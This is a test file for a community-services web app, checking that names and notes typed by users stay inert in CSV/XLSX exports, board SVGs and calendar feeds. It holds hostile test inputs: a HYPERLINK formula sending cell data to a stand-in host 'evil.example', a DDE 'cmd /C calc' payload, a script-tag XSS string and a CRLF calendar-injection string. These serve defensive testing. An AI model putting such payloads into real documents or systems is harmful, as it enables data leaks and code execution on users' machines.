// Names and notes come from people, and some people type formulas and markup. Whatever they type is
// stored as typed and returned verbatim by the JSON API, but it must stay inert wherever it is rendered:
// spreadsheets (CSV/XLSX exports neutralise formulas), board SVGs (escaped), calendar feeds (folded, no
// injected lines). The phone and resident pages are checked in a real browser in pages.test.ts.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { buildTestApp, loginAs, type LoggedIn, type TestApp } from '../helper.ts';

// The event-loop guard (503 when the loop stalls) is tested in resilience.test.ts; on a busy shared
// test machine it must not decide these answers.
process.env.MAX_EVENT_LOOP_DELAY_MS = '0'; // 0 turns the check off (server/http/resilience.ts)
import { pastDeskVisit } from './surface.ts';

let t: TestApp;
let admin: LoggedIn;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
const MARKUP = '<script>alert("xss")</script>\u202E检测';
const CELL_FORMULA_START = /^[=+\-@\t\r]/;
const numeric = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

let compoundId: number;
let siteId: number;
let requestId: number;

beforeAll(async () => {
  t = await buildTestApp();
  admin = await loginAs(t.app, 'admin');
  // A compound of the sample street renamed to a formula (coverage exports list compounds by name).
  const { rows: [compound] } = await sql<{ id: number; version: number }>`
    select id, version from compounds where street_code = '120103003000' and status = 'active' order by id limit 1`.execute(t.app.db);
  compoundId = compound.id;
  const renamed = await admin.inject({ method: 'PATCH', url: `/api/compounds/${compound.id}`, payload: { version: compound.version, name: FORMULA } });
  expect(renamed.statusCode, renamed.body).toBe(200);
  // A board site whose name is markup.
  const { rows: [site] } = await sql<{ id: number; version: number }>`
    select id, version from board_sites where status = 'active' order by id limit 1`.execute(t.app.db);
  siteId = site.id;
  const siteRenamed = await admin.inject({ method: 'PATCH', url: `/api/sites/${site.id}`, payload: { version: site.version, name: MARKUP } });
  expect(siteRenamed.statusCode, siteRenamed.body).toBe(200);
  // A resident's request whose text is a formula, at a visit that has started.
  const visit = await pastDeskVisit(t.app, admin.inject);
  const topic = (await t.app.db.selectFrom('desk_request_topics').select('id').executeTakeFirstOrThrow()).id;
  const created = await admin.inject({
    method: 'POST', url: `/api/desks/visits/${visit.id}/requests`,
    payload: { topic, description: FORMULA, contact_name: '@SUM(1+1)', outcome: 'follow_up', assignee: '+cmd|\' /C calc\'!A0' },
  });
  expect(created.statusCode, created.body).toBe(201);
  requestId = created.json().id;
});
afterAll(async () => { await t?.close(); });

function expectInertCsv(text: string, mustContain: string): void {
  const rows: string[][] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
  const cells = rows.flat();
  expect(cells.some((c) => c.includes(mustContain)), `the export contains ${mustContain}`).toBe(true);
  const live = cells.filter((c) => CELL_FORMULA_START.test(c) && !numeric(c));
  expect(live).toEqual([]);
}

async function expectInertXlsx(bytes: Buffer, mustContain: string): Promise<void> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as never);
  let seen = false;
  const live: string[] = [];
  book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
    if (cell.type === ExcelJS.ValueType.Formula) live.push(`${sheet.name}!${cell.address} formula`);
    const text = typeof cell.value === 'string' ? cell.value : '';
    if (text.includes(mustContain)) seen = true;
    if (CELL_FORMULA_START.test(text) && !numeric(text)) live.push(`${sheet.name}!${cell.address} ${text.slice(0, 40)}`);
  })));
  expect(seen, `the workbook contains ${mustContain}`).toBe(true);
  expect(live).toEqual([]);
}

describe('the JSON API returns what was typed, verbatim', () => {
  it('keeps formulas and markup as text (escaping is the renderer\'s job), without bidirectional overrides', async () => {
    // The right-to-left override would reverse the text around the name wherever it is shown: dropped on input.
    expect((await t.app.inject(`/api/sites/${siteId}`)).json().properties.name).toBe(MARKUP.replace('\u202E', ''));
    expect((await admin.inject(`/api/compounds/${compoundId}`)).json().properties?.name ?? (await admin.inject(`/api/compounds/${compoundId}`)).json().name).toBe(FORMULA);
  });
});

describe('spreadsheet exports neutralise formulas', () => {
  it('coverage CSV', async () => {
    const res = await admin.inject('/api/coverage/export.csv?street=120103003000');
    expect(res.statusCode).toBe(200);
    expectInertCsv(res.body, 'HYPERLINK');
  });

  it('coverage XLSX: no formula cells, no text that starts like one', async () => {
    const res = await admin.inject('/api/coverage/export.xlsx?street=120103003000');
    expect(res.statusCode).toBe(200);
    await expectInertXlsx(res.rawPayload, 'HYPERLINK');
  });

  it('desk requests CSV (民情日记)', async () => {
    const res = await admin.inject('/api/desks/requests.csv?street=120103003000');
    expect(res.statusCode).toBe(200);
    expectInertCsv(res.body, 'HYPERLINK');
    expect(res.body).toContain(`'@SUM(1+1)`);
  });

  it('service points CSV and XLSX exports', async () => {
    const { rows: [point] } = await sql<{ id: number; version: number }>`
      select id, version from service_points where street_code = '120103003000' and status = 'active' order by id limit 1`.execute(t.app.db);
    const renamed = await admin.inject({ method: 'PATCH', url: `/api/points/${point.id}`, payload: { version: point.version, name: '=1+2', address: FORMULA } });
    expect(renamed.statusCode, renamed.body).toBe(200);
    const csv = await admin.inject('/api/export/points.csv?street=120103003000');
    expect(csv.statusCode).toBe(200);
    expectInertCsv(csv.body, 'HYPERLINK');
    const xlsx = await admin.inject('/api/export/points.xlsx?street=120103003000');
    expect(xlsx.statusCode).toBe(200);
    await expectInertXlsx(xlsx.rawPayload, 'HYPERLINK');
  });
});

describe('boards escape names', () => {
  it('the board SVG shows a markup name as text, never as an element', async () => {
    const res = await admin.inject(`/api/boards/${siteId}.svg`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.body).not.toMatch(/<script/i);
    expect(res.body).toContain('&lt;script&gt;');
  });
});

describe('calendar feeds', () => {
  it('a place name with line breaks cannot inject calendar lines', async () => {
    const hostile = '活动\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:伪造活动';
    const visit = await pastDeskVisit(t.app, admin.inject, { note: hostile, partners: ['派出所;X-INJECT:1,\n'] }, 2);
    const ics = await t.app.inject(`/api/desks/street/${visit.street_code}.ics`);
    expect(ics.statusCode).toBe(200);
    const lines = ics.body.split('\r\n');
    expect(lines.filter((l) => l === 'BEGIN:VEVENT').length).toBe(lines.filter((l) => l === 'END:VEVENT').length);
    expect(lines).not.toContain('SUMMARY:伪造活动');
    expect(lines.some((l) => l.startsWith('X-INJECT'))).toBe(false);
    expect(ics.body).toContain('伪造活动'); // still there, as text inside the description
  });

  it('requests keep their contact private in the CSV for viewers', async () => {
    const viewer = await loginAs(t.app, 'viewer');
    const res = await viewer.inject('/api/desks/requests.csv?street=120103003000');
    expect(res.statusCode).toBe(200);
    expect(res.body).not.toContain('@SUM(1+1)');
    expect(requestId).toBeGreaterThan(0);
  });
});
